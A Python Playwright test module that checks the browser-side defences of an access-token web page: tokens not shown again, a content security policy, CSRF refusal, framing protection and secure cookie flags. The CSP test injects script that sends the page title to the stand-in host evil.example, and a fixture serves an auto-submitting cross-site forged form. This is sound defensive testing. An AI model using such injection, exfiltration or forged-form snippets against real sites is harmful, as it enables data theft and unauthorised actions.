"""What a real browser lets others do to the page, and shows again: nothing."""

from __future__ import annotations

import threading
from http.server import BaseHTTPRequestHandler, HTTPServer
from typing import TYPE_CHECKING, TypeAlias

import pytest
from playwright.sync_api import expect

from tests.browser.support import Visitor, served
from tests.issuing.logins.certificates import Authority

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator
    from pathlib import Path

    from playwright.sync_api import Browser

    from tests.browser.support import Served

    Visit: TypeAlias = Callable[..., Visitor]


def make_one(who: Visitor) -> str:
    who.page.goto("/access-tokens/new")
    who.page.get_by_label("Description").fill("sync")
    who.button("Generate").click()
    return who.value()


@pytest.mark.parametrize("scripts", [True, False])
def test_the_value_is_not_shown_again(visit: Visit, *, scripts: bool) -> None:
    who = visit(java_script_enabled=scripts)
    who.enter()
    value = make_one(who)
    who.page.reload()
    expect(who.row("sync")).to_be_visible()
    assert value not in who.page.content()
    other = make_one(who)
    who.link("Done").click()
    expect(who.row("sync")).to_have_count(2)
    who.page.go_back()
    expect(who.row("sync")).to_have_count(2)
    assert other not in who.page.content()
    assert who.tokens() == 2


def test_going_back_after_logging_out_shows_nothing(visit: Visit) -> None:
    who = visit()
    who.site.run(who.site.some_tokens())
    who.enter()
    who.button("Log out").click()
    expect(who.button("Log in")).to_be_visible()
    who.page.go_back()
    expect(who.button("Log in")).to_be_visible()
    assert "Nightly sync" not in who.page.content()


@pytest.mark.parametrize("scripts", [True, False])
def test_a_double_click_makes_one_token_and_shows_it(visit: Visit, *, scripts: bool) -> None:
    who = visit(java_script_enabled=scripts)
    who.enter()
    who.page.goto("/access-tokens/new")
    who.button("Generate").dblclick(no_wait_after=True)
    expect(who.page.get_by_label("Token value")).to_be_visible()
    assert who.works(who.value())
    assert who.tokens() == 1


def test_a_script_that_got_into_the_page_does_not_run(visit: Visit) -> None:
    who = visit(complaints=False)
    who.enter()
    blocked: list[str] = []

    def block(what: str) -> None:
        blocked.append(what)

    who.page.expose_function("blocked", block)
    who.page.evaluate(
        """async () => {
            const note = (event) => blocked(event.effectiveDirective);
            document.addEventListener("securitypolicyviolation", note);
            const script = document.createElement("script");
            script.textContent = "document.title = 'taken over'";
            document.body.append(script);
            const image = document.createElement("img");
            image.src = "https://evil.example/?" + document.title;
            document.body.append(image);
            const style = document.createElement("style");
            style.textContent = "body { display: none }";
            document.body.append(style);
            await new Promise(requestAnimationFrame);
        }"""
    )
    expect(who.page.get_by_text("No tokens yet")).to_be_visible()
    assert who.page.title() == "Access Tokens"
    assert sorted(blocked) == ["img-src", "script-src-elem", "style-src-elem"]


@pytest.fixture
def evil(site: Served) -> Iterator[str]:
    """Another site, whose pages send forms to ours and put ours into a frame."""
    pages = {
        "/form": f"""<form method="post" action="{site.url}/access-tokens/new">
            <input name="csrf" value="x"><input name="days" value="30"></form>
            <script>document.forms[0].submit()</script>""",
        "/frame": f'<iframe src="{site.url}/access-tokens"></iframe>',
    }

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            body = pages.get(self.path, "").encode()
            self.send_response(200)
            self.send_header("content-type", "text/html")
            self.send_header("content-length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *args: object) -> None:
            del args

    with HTTPServer(("127.0.0.1", 0), Handler) as server:
        thread = threading.Thread(target=server.serve_forever)
        thread.start()
        yield f"http://localhost:{server.server_port}"  # not the same site as 127.0.0.1
        server.shutdown()
        thread.join()


def test_a_form_on_another_site_does_nothing(visit: Visit, evil: str) -> None:
    who = visit()
    who.enter()
    who.page.goto(f"{evil}/form")
    who.page.wait_for_url(f"{who.site.url}/**")
    assert who.tokens() == 0
    who.page.goto("/access-tokens")
    expect(who.page.get_by_text("No tokens yet")).to_be_visible()


def test_no_other_site_frames_the_page(visit: Visit, evil: str) -> None:
    who = visit(complaints=False)
    who.enter()
    who.page.goto(f"{evil}/frame")
    frame = who.page.frames[-1]
    assert frame.url != who.page.url
    assert "Access Tokens" not in frame.content()


def test_the_session_can_not_be_read_by_scripts(visit: Visit) -> None:
    who = visit()
    who.log_in()
    assert who.page.evaluate("document.cookie") == ""
    (session,) = [c for c in who.page.context.cookies() if c["name"].endswith("session")]
    assert (session["httpOnly"], session["sameSite"], session["expires"]) == (True, "Lax", -1)


def test_over_https_the_browser_takes_the_cookies_of_this_host_alone(
    chromium: Browser, tmp_path: Path
) -> None:
    cert = Authority(tmp_path).issue("page")
    with served(tmp_path, cert) as site:
        context = chromium.new_context(base_url=site.url, ignore_https_errors=True)
        who = Visitor(site, context.new_page())
        who.log_in()
        assert who.works(make_one(who))
        names = {cookie["name"] for cookie in context.cookies() if cookie["secure"]}
        assert names == {"__Host-bearer-guard-session", "__Host-bearer-guard-made"}
        context.close()
